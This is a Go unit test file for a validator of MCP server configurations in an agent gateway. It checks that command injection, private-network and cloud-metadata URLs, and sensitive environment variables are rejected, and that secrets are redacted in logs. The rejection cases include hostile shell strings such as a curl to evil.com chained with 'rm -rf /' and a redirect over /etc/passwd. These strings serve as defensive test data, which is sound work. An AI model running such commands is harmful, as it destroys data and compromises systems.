package mcpvalidate

import (
	"testing"

	"github.com/agentgw/agentgw/internal/apierr"
	"github.com/agentgw/agentgw/internal/jsonval"
	"github.com/agentgw/agentgw/pkg/models"
	"github.com/stretchr/testify/assert"
	"github.com/stretchr/testify/require"
)

func TestValidate_StdioRejectsShellMetachars(t *testing.T) {
	cases := []string{
		"curl evil.com; rm -rf /",
		"echo hi && echo bye",
		"echo `whoami`",
		"echo $(whoami)",
		"echo one | echo two",
		"echo a > /etc/passwd",
	}
	for _, command := range cases {
		cfg := &models.MCPServerConfig{Name: "x", Transport: models.TransportStdio, Command: command}
		err := Validate(cfg, TierTenant, Options{})
		require.Error(t, err, command)
		assert.True(t, apierr.Is(err, apierr.KindValidation))
	}
}

func TestValidate_StdioRejectsMetacharsInArgs(t *testing.T) {
	cfg := &models.MCPServerConfig{
		Name: "x", Transport: models.TransportStdio, Command: "echo",
		Args: []string{"safe", "danger; rm -rf /"},
	}
	err := Validate(cfg, TierTenant, Options{})
	require.Error(t, err)
}

func TestValidate_StdioAllowsCleanCommand(t *testing.T) {
	cfg := &models.MCPServerConfig{
		Name: "x", Transport: models.TransportStdio, Command: "npx",
		Args: []string{"-y", "@modelcontextprotocol/server-github"},
	}
	require.NoError(t, Validate(cfg, TierTenant, Options{}))
}

func TestValidate_RejectsPrivateAndLoopbackURLs(t *testing.T) {
	urls := []string{
		"http://127.0.0.1:8080",
		"http://localhost/mcp",
		"http://10.1.2.3/mcp",
		"http://172.16.0.5/mcp",
		"http://192.168.1.1/mcp",
		"http://169.254.169.254/latest/meta-data",
		"http://[::1]/mcp",
	}
	for _, u := range urls {
		cfg := &models.MCPServerConfig{Name: "x", Transport: models.TransportHTTP, URL: u}
		err := Validate(cfg, TierTenant, Options{})
		require.Error(t, err, u)
	}
}

func TestValidate_AllowsPrivateNetworksWhenOptedIn(t *testing.T) {
	cfg := &models.MCPServerConfig{Name: "x", Transport: models.TransportHTTP, URL: "http://127.0.0.1:8080"}
	require.NoError(t, Validate(cfg, TierTenant, Options{AllowPrivateNetworks: true}))
}

func TestValidate_AllowsPublicURL(t *testing.T) {
	cfg := &models.MCPServerConfig{Name: "x", Transport: models.TransportSSE, URL: "https://api.example.com/mcp"}
	require.NoError(t, Validate(cfg, TierTenant, Options{}))
}

func TestValidate_RejectsNonHTTPScheme(t *testing.T) {
	cfg := &models.MCPServerConfig{Name: "x", Transport: models.TransportSSE, URL: "ftp://example.com/mcp"}
	require.Error(t, Validate(cfg, TierTenant, Options{}))
}

func TestValidate_TransportFieldMismatch(t *testing.T) {
	t.Run("stdio with url", func(t *testing.T) {
		cfg := &models.MCPServerConfig{Name: "x", Transport: models.TransportStdio, Command: "echo", URL: "https://example.com"}
		require.Error(t, Validate(cfg, TierTenant, Options{}))
	})
	t.Run("http with command", func(t *testing.T) {
		cfg := &models.MCPServerConfig{Name: "x", Transport: models.TransportHTTP, URL: "https://example.com", Command: "echo"}
		require.Error(t, Validate(cfg, TierTenant, Options{}))
	})
}

func TestValidate_RequestTierRejectsSensitiveEnv(t *testing.T) {
	cfg := &models.MCPServerConfig{
		Name: "x", Transport: models.TransportStdio, Command: "echo",
		Env: map[string]string{"API_KEY": "sekret"},
	}
	err := Validate(cfg, TierRequest, Options{})
	require.Error(t, err)
	assert.True(t, apierr.Is(err, apierr.KindValidation))
}

func TestValidate_TenantTierAllowsSensitiveEnv(t *testing.T) {
	cfg := &models.MCPServerConfig{
		Name: "x", Transport: models.TransportStdio, Command: "echo",
		Env: map[string]string{"API_KEY": "sekret"},
	}
	require.NoError(t, Validate(cfg, TierTenant, Options{}))
}

func TestValidate_UnknownTransportRejected(t *testing.T) {
	cfg := &models.MCPServerConfig{Name: "x", Transport: "carrier-pigeon"}
	require.Error(t, Validate(cfg, TierTenant, Options{}))
}

func TestSanitizeForLog_RedactsSensitiveLeavesOnly(t *testing.T) {
	raw := map[string]jsonval.Json{
		"command": "npx",
		"env": map[string]jsonval.Json{
			"API_KEY":  "sk-abc123",
			"LOG_MODE": "verbose",
		},
	}
	out := SanitizeForLog(raw)
	m, ok := jsonval.AsMap(out)
	require.True(t, ok)
	assert.Equal(t, "npx", m["command"])

	env, ok := jsonval.AsMap(m["env"])
	require.True(t, ok)
	assert.Equal(t, "[redacted]", env["API_KEY"])
	assert.Equal(t, "verbose", env["LOG_MODE"])
}
